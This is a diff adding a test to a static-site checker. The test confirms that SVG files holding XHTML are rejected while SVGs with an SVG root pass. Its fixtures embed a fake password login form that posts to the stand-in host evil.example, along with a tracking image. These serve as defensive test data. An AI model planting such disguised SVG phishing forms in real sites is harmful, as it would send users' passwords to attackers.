@@ -167,6 +167,28 @@ describe('files of static/', () => {
     expect(result.stderr).toMatch(/check failed: 4 errors/);
   });
 
+  it('refuses an .svg that is an XHTML page (its root, or one outside SVG, holds XHTML), and publishes SVGs whose root is SVG', async () => {
+    const xhtml = 'http://www.w3.org/1999/xhtml';
+    const form = '<form action="https://evil.example/"><input type="password" name="p"/><button>Log in</button></form>';
+    const site = await fixtureCopy('basic', 'security-static-svg-xhtml-root', {
+      // Opened from a plain static host, Chromium drew this page's form (and posted it to evil.example) and fetched the image.
+      'static/img/page.svg': `<html xmlns="${xhtml}"><body>${form}<img src="https://tracker.example/p.gif"/></body></html>\n`,
+      'static/img/default.svg': `<svg xmlns="${xhtml}">${form}</svg>\n`,
+      'static/img/no-namespace.svg': `<svg width="10"><div xmlns="${xhtml}">${form}</div></svg>\n`,
+      'static/img/prefix.svg': `<s:svg xmlns="http://www.w3.org/2000/svg" xmlns:s="${xhtml}"><s:body>${form.replaceAll('<', '<s:').replaceAll('<s:/', '</s:')}</s:body></s:svg>\n`,
+      // Under an SVG root, XHTML outside a <foreignObject> is not drawn; an SVG missing its xmlns holds none.
+      'static/img/svg-root.svg': `<?xml version="1.0"?>\n<!-- <html> -->\n<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n<svg xmlns="&ns_svg;"><html xmlns="${xhtml}"><body>${form}</body></html></svg>\n`,
+      'static/img/bare.svg': '<svg width="10" height="10"><rect width="10" height="10"/></svg>\n',
+    });
+    const result = await runCli(['check', site]);
+    expect(result.code).toBe(1);
+    for (const name of ['page.svg', 'default.svg', 'no-namespace.svg', 'prefix.svg'])
+      expect(result.stderr).toContain(`static/img/${name}:1:1  error  static/img/${name} holds XHTML outside an SVG root (a page, drawn with its forms and images, not an image)`);
+    expect(result.stderr).not.toContain('svg-root.svg');
+    expect(result.stderr).not.toContain('bare.svg');
+    expect(result.stderr).toMatch(/check failed: 4 errors/);
+  });
+
   it('reads the file as a browser does: any namespace prefix, UTF-16, and the entities it declares', async () => {
     // Each of these passed the check and ran its script in Chromium from a plain static host.
     const site = await fixtureCopy('basic', 'security-static-svg-read-as-browser', {
